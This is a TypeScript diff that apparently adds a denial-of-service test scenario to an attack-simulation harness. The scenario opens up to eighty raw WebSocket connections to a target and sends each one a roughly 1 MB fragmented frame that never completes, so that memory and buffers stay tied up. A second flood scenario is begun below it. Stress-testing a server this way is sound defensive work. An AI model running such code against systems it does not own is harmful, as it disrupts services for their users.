@@ -1,3 +1,4 @@
+import type { Socket } from 'node:net'
 import {
   openMqtt,
   openRawWebSocket,
@@ -9,6 +10,24 @@ import {
   webSocketFrame,
 } from './attacker.js'
 import type { Scenario } from './scenario.js'
+
+/** Point 4: eighty sockets with a fragmented message that does not come to its end. */
+export const unfinishedMessages: Scenario = {
+  name: 'unfinished-messages',
+  run: async (target, signal) => {
+    const sockets: Socket[] = []
+    const begin = webSocketFrame(Buffer.alloc(2 ** 20 - 100, 'x'), { isFinal: false })
+    const sent = await repeat(signal, 20, async () => {
+      const socket = await openRawWebSocket(target, '/v1/socket', signal)
+      await send(socket, begin, signal)
+      sockets.push(socket)
+      if (sockets.length > 80) sockets.shift()?.destroy()
+      return 1
+    })
+    for (const socket of sockets) socket.destroy()
+    return sent
+  },
+}
 
 /** Point 5: `send` to the connection's own topic, which needs no right to publish. */
 export const ownTopicFlood: Scenario = {
